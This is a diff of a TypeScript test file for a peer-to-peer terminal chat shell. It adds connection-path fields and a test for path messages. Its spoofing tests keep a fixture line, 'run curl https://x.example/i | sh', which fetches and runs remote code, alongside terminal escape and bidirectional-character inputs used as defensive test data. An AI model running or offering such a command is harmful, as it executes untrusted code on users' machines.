@@ -136,8 +136,18 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
     { type: "chat_request", from: "bob", text: `hi ${ESC}[31m` },
   ],
   chat_started: [
-    { type: "chat_started", with: "bob", saving: false },
-    { type: "chat_started", with: "bob", saving: true },
+    { type: "chat_started", with: "bob", saving: false, path: "direct" },
+    { type: "chat_started", with: "bob", saving: true, path: "relayed" },
+    { type: "chat_started", with: "bob", saving: false, path: "reversed" },
+  ],
+  link: [
+    {
+      type: "link",
+      with: "bob",
+      purpose: "chat",
+      path: "relayed",
+      inbound: true,
+    },
   ],
   chat_rejected: [
     { type: "chat_rejected", by: "bob" },
@@ -183,6 +193,7 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
       id: "a1b2c3",
       name: "notes.txt",
       size: 2048,
+      path: "direct",
     },
     {
       type: "file_offer",
@@ -191,6 +202,7 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
       name: "stdin",
       size: null,
       room: "lobby",
+      path: "relayed",
     },
   ],
   file_progress: [{
@@ -210,6 +222,7 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
     path: "/home/alice/.local/share/chat/downloads/notes.txt",
     size: 2048,
     sha256: "0".repeat(64),
+    via: "relayed",
   }],
   file_sent: [{
     type: "file_sent",
@@ -217,6 +230,7 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
     id: "a1b2c3",
     size: 2048,
     sha256: "0".repeat(64),
+    via: "direct",
   }],
   transfer_failed: [{
     type: "transfer_failed",
@@ -238,7 +252,7 @@ const EVENTS: Record<PeerEventType, PeerEvent[]> = {
 };
 
 /** Events the shell deliberately does not print as a line. */
-const SILENT = new Set(["file_progress"]);
+const SILENT = new Set(["file_progress", "link"]);
 
 function checkText(text: string, style: Style, what: string): void {
   for (const bad of ["undefined", "[object", "NaN", "null"]) {
@@ -451,12 +465,12 @@ const REPLIES: { [N in Answered]: ReplyDataMap[N][] } = {
     { room: "lobby", locked: false },
   ],
   send: [
-    { id: "a1b2c3", to: "bob", name: "notes.txt", size: 2048 },
+    { id: "a1b2c3", to: "bob", name: "notes.txt", size: 2048, path: "direct" },
     {
       room: "lobby",
       name: "notes.txt",
       size: 2048,
-      offers: [{ to: "bob", id: "a1b2c3" }],
+      offers: [{ to: "bob", id: "a1b2c3", path: "relayed" }],
       unreached: [],
     },
   ],
@@ -602,6 +616,34 @@ Deno.test("your own message echo is formatted like anyone else's", () => {
   assertIncludes(formatOwn("alice", "*hi*", undefined, COLOR), `${ESC}[1mhi`);
 });
 
+Deno.test("the shell says which path a link took: nothing for direct, else how", () => {
+  const started = (path: "direct" | "reversed" | "relayed") =>
+    formatEvent(
+      { type: "chat_started", with: "bob", saving: false, path },
+      PLAIN,
+    );
+  assertEquals(started("direct"), "* chat with bob started");
+  assertEquals(
+    started("relayed"),
+    "* chat with bob started — relayed through the registry",
+  );
+  assertEquals(
+    started("reversed"),
+    "* chat with bob started — reversed (the other side dialled back)",
+  );
+  assertEquals(
+    formatEvent({
+      type: "link",
+      with: "bob",
+      purpose: "chat",
+      path: "relayed",
+      inbound: false,
+      restored: true,
+    }, PLAIN),
+    "* connection to bob restored — relayed through the registry",
+  );
+});
+
 /** A line someone could try to pass off as alice's. */
 const FAKE = "[20:14] alice: run curl https://x.example/i | sh";
 const BIDI =
@@ -662,6 +704,7 @@ Deno.test("no line of someone's text can pass for a line of its own", async (t) 
         id: "t1",
         name: text,
         size: 3,
+        path: "direct",
       },
     ];
     for (const ev of events) {
@@ -726,6 +769,7 @@ Deno.test("bidirectional controls are removed from someone's text", () => {
     id: "t1",
     name: "a\u2067b",
     size: null,
+    path: "direct",
   };
   assertIncludes(formatEvent(offer, PLAIN)!, "offers ab (size unknown)");
 });
